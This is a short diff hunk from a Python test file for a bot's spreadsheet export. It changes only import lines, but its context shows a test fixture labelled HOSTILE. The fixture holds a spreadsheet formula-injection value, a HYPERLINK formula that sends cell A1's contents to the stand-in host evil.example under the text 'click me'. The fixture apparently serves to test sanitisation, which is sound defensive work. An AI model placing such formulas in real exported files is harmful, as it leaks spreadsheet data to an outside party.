@@ -13,7 +13,8 @@ from openpyxl import load_workbook
 
 from bot.cli import main
 from storage.db import open_db
-from tests.f7_helpers import report, seed
+from tests.commands_helpers import seed
+from tests.school_factory import add_report as report
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
